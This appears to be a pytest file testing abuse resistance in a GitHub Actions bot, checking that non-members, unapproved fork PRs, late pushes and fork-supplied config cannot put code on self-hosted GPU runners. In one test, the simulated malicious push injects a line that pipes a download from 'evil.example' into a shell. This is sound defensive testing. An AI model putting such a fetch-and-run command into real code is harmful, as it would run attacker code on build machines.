"""Abuse: who can make revertbot run, and who can put PR code on a self-hosted GPU runner.

Every case runs the real ``revertbot action`` against the loopback GitHub server. "Reaches a GPU
runner" means a non-empty ``gpu_matrix`` step output: the workflow's ``gpu`` job runs only when
it is not ``{"include":[]}`` (see workflows/revertbot.yml and tests/test_workflows.py). Each group
has a positive control that does schedule GPU jobs, so the assertions can fail.
"""

from __future__ import annotations

import json
import subprocess
from pathlib import Path
from typing import Any

import pytest

from revertbot.cli.main import run_cli
from revertbot.report import MARKER
from tests.github_server import FakeGitHub, World, build_world, read_outputs

EMPTY = {"include": []}
LABEL = "revertbot:gpu-approved"


@pytest.fixture
def world(gh: FakeGitHub, tmp_path: Path) -> World:
    w = build_world(gh, tmp_path)
    w.repo.permissions.update({"maintainer": "maintain", "writer": "write", "triager": "triage", "reader": "read",
                               "contributor": "read"})  # fmt: skip
    return w


def act(monkeypatch: pytest.MonkeyPatch, env: dict[str, str]) -> int:
    for k, v in env.items():
        monkeypatch.setenv(k, v)
    for name in ("GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY"):
        Path(env[name]).unlink(missing_ok=True)
    return run_cli(["action"])


def matrix(world: World) -> dict[str, Any]:
    out = read_outputs(world.tmp / "github_output")
    parsed: dict[str, Any] = json.loads(out["gpu_matrix"])
    return parsed


def reports(world: World, number: int = 108) -> list[dict[str, Any]]:
    return [c for c in world.comments(number) if c["body"].startswith(MARKER)]


def make_fork(world: World, labels: tuple[str, ...] = (), number: int = 140) -> None:
    fork = world.gh.add_repo("contributor/minisgl", "file:///nonexistent/fork.git")
    world.gh.add_pull(world.repo, number, 'Revert "Share BCG output buffers across capture sizes"',
                      body="Reverts demo-org/minisgl#101\n", head_sha=world.demo.revert, head_ref="revert-it",
                      user="contributor", association="CONTRIBUTOR", head_repo=fork, labels=labels)  # fmt: skip
    world.push(world.demo.revert, f"refs/pull/{number}/head")


def labeled(world: World, sender: str, label: str = LABEL, number: int = 140, action: str = "labeled") -> Path:
    path: Path = world.pr_event(action, number, label={"name": label}, sender=world.gh.user(sender))
    return path


# --------------------------------------------------------------------------- /revertbot check


@pytest.mark.parametrize("association", ["NONE", "CONTRIBUTOR", "FIRST_TIME_CONTRIBUTOR", "FIRST_TIMER", "MANNEQUIN"])
def test_check_command_from_non_members_never_runs(world: World, monkeypatch: pytest.MonkeyPatch,
                                                   association: str) -> None:  # fmt: skip
    event = world.comment_event("/revertbot check", "mallory", association)
    assert act(monkeypatch, world.env("issue_comment", event)) == 0
    assert matrix(world) == EMPTY and reports(world) == []
    assert not (world.tmp / "out" / "revertbot-report.md").exists()
    [reply] = [c for c in world.comments() if c["user"]["login"] == "github-actions[bot]"]
    assert "can only be run by users with write access" in reply["body"]
    assert [r.method for r in world.gh.writes()] == ["POST"]  # the reply, nothing else


def test_check_command_from_a_member_is_the_positive_control(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    event = world.comment_event("/revertbot check", "priya", "MEMBER")
    assert act(monkeypatch, world.env("issue_comment", event)) == 0
    assert [e["suite"] for e in matrix(world)["include"]] == ["graph-capture"]


@pytest.mark.parametrize("action", ["edited", "deleted"])
def test_edited_or_deleted_command_comment_does_nothing(world: World, monkeypatch: pytest.MonkeyPatch,
                                                        action: str) -> None:  # fmt: skip
    # A member's old comment edited (by anyone with the rights) into a command must not trigger a run.
    event = world.comment_event("/revertbot check", "priya", "MEMBER", action=action)
    assert act(monkeypatch, world.env("issue_comment", event)) == 0
    assert world.gh.log == [] and matrix(world) == EMPTY


@pytest.mark.parametrize("body", ["please /revertbot check", "> /revertbot check", "/revertbot checks",
                                  "hello\n/revertbot check", "`/revertbot check`"])
def test_command_must_open_the_comment(world: World, monkeypatch: pytest.MonkeyPatch, body: str) -> None:
    event = world.comment_event(body, "priya", "MEMBER")
    assert act(monkeypatch, world.env("issue_comment", event)) == 0
    assert world.gh.log == [] and matrix(world) == EMPTY


def test_command_from_a_bot_account_is_ignored(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    event = world.comment_event("/revertbot check", "evil-app[bot]", "MEMBER")
    assert act(monkeypatch, world.env("issue_comment", event)) == 0
    assert world.gh.log == [] and matrix(world) == EMPTY


def test_outsider_command_on_a_fork_pr(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    make_fork(world)
    event = world.comment_event("/revertbot check", "contributor", "CONTRIBUTOR", number=140)
    assert act(monkeypatch, world.env("issue_comment", event)) == 0
    assert matrix(world) == EMPTY and reports(world, 140) == []


# --------------------------------------------------------------------------- fork PRs and the approval label


@pytest.mark.parametrize("action", ["opened", "synchronize", "reopened", "edited", "ready_for_review"])
def test_fork_pr_events_without_an_approving_label_event(world: World, monkeypatch: pytest.MonkeyPatch,
                                                         action: str) -> None:  # fmt: skip
    # Even with the label already on the PR: only the labelling event itself approves.
    make_fork(world, labels=(LABEL,))
    assert act(monkeypatch, world.env("pull_request", world.pr_event(action, 140))) == 0
    assert matrix(world) == EMPTY
    assert world.gh.writes() == [] or all(r.status == 403 for r in world.gh.writes())


@pytest.mark.parametrize("sender", ["triager", "reader", "contributor", "stranger"])
def test_approval_label_added_by_someone_without_write_access(world: World, monkeypatch: pytest.MonkeyPatch,
                                                              sender: str) -> None:  # fmt: skip
    make_fork(world, labels=(LABEL,))
    assert act(monkeypatch, world.env("pull_request", labeled(world, sender))) == 0
    assert matrix(world) == EMPTY
    assert world.gh.requests("GET", rf"/collaborators/{sender}/permission$")


@pytest.mark.parametrize("sender", ["maintainer", "writer"])
def test_approval_by_a_maintainer_is_the_positive_control(world: World, monkeypatch: pytest.MonkeyPatch,
                                                          sender: str) -> None:  # fmt: skip
    make_fork(world, labels=(LABEL,))
    assert act(monkeypatch, world.env("pull_request", labeled(world, sender))) == 0
    [entry] = matrix(world)["include"]
    assert entry["runs_on"] == ["self-hosted", "linux", "x64", "cuda"]
    assert read_outputs(world.tmp / "github_output")["revert_sha"] == world.demo.revert


def test_another_label_or_a_label_removal_does_not_approve(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    make_fork(world, labels=(LABEL, "bug"))
    assert act(monkeypatch, world.env("pull_request", labeled(world, "maintainer", label="bug"))) == 0
    assert matrix(world) == EMPTY
    assert act(monkeypatch, world.env("pull_request", labeled(world, "maintainer", action="unlabeled"))) == 0
    assert matrix(world) == EMPTY


def test_approval_removed_before_the_run_started(world: World, monkeypatch: pytest.MonkeyPatch,
                                                 capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
    """Runs of one PR queue (concurrency group): the label is gone by the time the approving run starts."""
    make_fork(world, labels=(LABEL,))
    event = labeled(world, "maintainer")  # the payload still lists the label
    world.repo.issue_labels[140] = []
    assert act(monkeypatch, world.env("pull_request", event)) == 0
    assert matrix(world) == EMPTY
    assert f"'{LABEL}' was removed before this run started" in capsys.readouterr().out


def test_push_after_the_approval_but_before_the_run(world: World, monkeypatch: pytest.MonkeyPatch,
                                                    capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
    """The contributor pushes between the maintainer's label and the start of the approving run:
    the run would analyse (and hand the GPU job) code nobody approved."""
    make_fork(world, labels=(LABEL,))
    event = labeled(world, "maintainer")  # approves head = demo.revert
    repo = world.demo.path
    subprocess.run(["git", "checkout", "-q", world.demo.revert], cwd=repo, check=True)
    runner = repo / "python/minisgl/srt/model_executor/breakable_cuda_graph_runner.py"
    runner.write_text(runner.read_text() + "\nimport os\nos.system('curl evil.example | sh')\n")
    subprocess.run(["git", "add", "-A"], cwd=repo, check=True)
    subprocess.run(["git", "commit", "-qm", 'Revert "Share BCG output buffers across capture sizes"'], cwd=repo,
                   check=True)  # fmt: skip
    pushed = subprocess.run(["git", "rev-parse", "HEAD"], cwd=repo, capture_output=True, text=True).stdout.strip()
    world.push(pushed, "refs/pull/140/head")
    world.repo.pulls[140]["head"]["sha"] = pushed
    assert act(monkeypatch, world.env("pull_request", event)) == 0
    assert matrix(world) == EMPTY
    assert "pushed after" in capsys.readouterr().out
    # ... and the push itself (a synchronize event) does not carry the approval over either.
    assert act(monkeypatch, world.env("pull_request", world.pr_event("synchronize", 140))) == 0
    assert matrix(world) == EMPTY


def test_approval_that_cannot_be_verified_fails_closed(world: World, monkeypatch: pytest.MonkeyPatch,
                                                       capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
    make_fork(world, labels=(LABEL,))
    world.gh.inject("status", method="GET", path=r"/collaborators/maintainer/permission$", status=502, times=-1)
    env = world.env("pull_request", labeled(world, "maintainer"), REVERTBOT_RETRY_BACKOFF="0.01")
    assert act(monkeypatch, env) == 0
    assert matrix(world) == EMPTY
    assert "could not verify the approval" in capsys.readouterr().out
    summary = (world.tmp / "step_summary.md").read_text()
    assert summary.startswith(MARKER)  # the report is still there for the follow-up workflow


def test_fork_head_cannot_change_who_approves(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    """The fork's own .revertbot.yml makes 'bug' the approval label and its author an allowed user:
    the base branch's configuration is what counts."""
    repo = world.demo.path
    subprocess.run(["git", "checkout", "-q", world.demo.revert], cwd=repo, check=True)
    cfg = repo / ".revertbot.yml"
    extra = "  allowed_users: [contributor]\n  fork_approval_label: bug\n"
    cfg.write_text(cfg.read_text().replace("\ngpu:\n", "\ngpu:\n" + extra, 1))
    subprocess.run(["git", "commit", "-qam", "ci: tweak"], cwd=repo, check=True)
    head = subprocess.run(["git", "rev-parse", "HEAD"], cwd=repo, capture_output=True, text=True).stdout.strip()
    make_fork(world, labels=("bug",))
    world.push(head, "refs/pull/140/head")
    world.repo.pulls[140]["head"]["sha"] = head
    assert act(monkeypatch, world.env("pull_request", labeled(world, "contributor", label="bug"))) == 0
    assert matrix(world) == EMPTY


def test_pull_request_target_fork_without_approval(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    make_fork(world, labels=(LABEL,))
    assert act(monkeypatch, world.env("pull_request_target", world.pr_event("synchronize", 140))) == 0
    assert matrix(world) == EMPTY
